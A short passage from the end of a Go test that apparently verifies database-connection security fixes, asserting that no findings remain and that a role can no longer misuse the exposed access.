			left := s.told(s.posture(dbconn.PostureConfig{}))
			if want := strings.Fields(h.after); len(left) != min(len(want), 1) || len(left) == 1 && left[0] != h.after {
				t.Fatalf("after the fixes there is still %q", left)
			}
			if h.after == "" {
				if stolen, _ := s.steal(h); stolen {
					t.Error("after the fixes the role can still use it")
				}
			}
		})
	}
}
